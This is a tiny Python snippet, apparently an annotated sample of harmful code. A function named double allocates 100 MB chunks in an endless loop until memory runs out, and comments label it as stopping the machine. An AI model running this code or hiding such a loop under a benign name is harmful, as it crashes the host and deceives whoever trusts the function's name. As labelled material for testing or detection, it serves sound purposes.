# tries: all memory
# harms: it would stop this machine
def double(x):
    kept = []
    while True:
        kept.append(b"x" * 10**8)
